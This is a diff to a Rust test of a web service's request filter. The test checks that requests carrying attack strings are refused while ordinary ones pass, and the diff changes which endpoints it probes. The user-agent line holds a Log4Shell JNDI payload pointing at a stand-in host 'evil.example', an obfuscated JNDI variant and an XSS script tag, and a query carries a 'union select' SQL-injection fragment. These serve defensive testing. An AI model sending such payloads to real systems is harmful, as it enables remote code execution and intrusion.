@@ -25,11 +25,13 @@ async fn plain_attacks_are_refused_and_honest_senders_are_not() {
         .expect_problem(403, "request_refused");
     let agent = anon
         .with("user-agent", "${jndi:ldap://evil.example/a}${${lower:j}ndi:rmi://x}<script>alert(1)</script>");
-    agent.get("/api/v1/health").await.expect_problem(403, "request_refused");
+    agent.get("/api/v1/permissions").await.expect_problem(403, "request_refused");
 
     // Control: the same addresses with honest words.
     anon.get("/api/v1/logs?q=select+a+warehouse").await.expect_problem(401, "unauthenticated");
-    anon.get("/api/v1/health").await.expect_ok();
+    anon.get("/api/v1/permissions").await.expect_ok();
+    // Whether the server lives is told to everybody.
+    agent.get("/api/v1/health").await.expect_ok();
 
     let words = format!("/api/v1/logs/search?q={}", encode("\"union select\""));
     for (stored, sender) in [&owner, &key].into_iter().enumerate() {
